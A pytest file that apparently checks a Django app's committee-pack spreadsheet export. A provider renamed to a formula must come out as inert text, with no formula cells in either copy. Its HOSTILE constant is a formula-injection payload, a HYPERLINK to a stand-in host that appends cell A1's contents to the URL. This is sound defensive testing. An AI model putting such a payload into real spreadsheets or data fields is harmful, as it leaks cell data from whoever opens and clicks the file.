"""The committee pack workbook: a provider renamed to a formula appears in the spend-by-provider
table as inert text; no cell of either copy is a formula or begins with "="."""

import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from aptrack.organisations.tests.factories import la
from aptrack.oversight.pack.build import build_pack
from aptrack.oversight.pack.xlsx import pack_xlsx
from aptrack.oversight.tests.regional_samples import AUTUMN, TODAY, populate

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"Provider X")'


def test_a_provider_named_as_a_formula_is_text_in_the_pack(world):
    populate(world)
    organisation = world.provider_x.organisation
    organisation.name = HOSTILE
    organisation.save(update_fields=["name"])
    for for_publication in (False, True):
        pack = build_pack(
            la=la("838"),
            period=AUTUMN,
            today=TODAY,
            for_publication=for_publication,
            generated_at=timezone.now(),
        )
        book = load_workbook(io.BytesIO(pack_xlsx(pack)))
        cells = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [cell.value for cell in cells if str(cell.value).startswith("=")] == []
        assert "'" + HOSTILE in {cell.value for cell in cells}
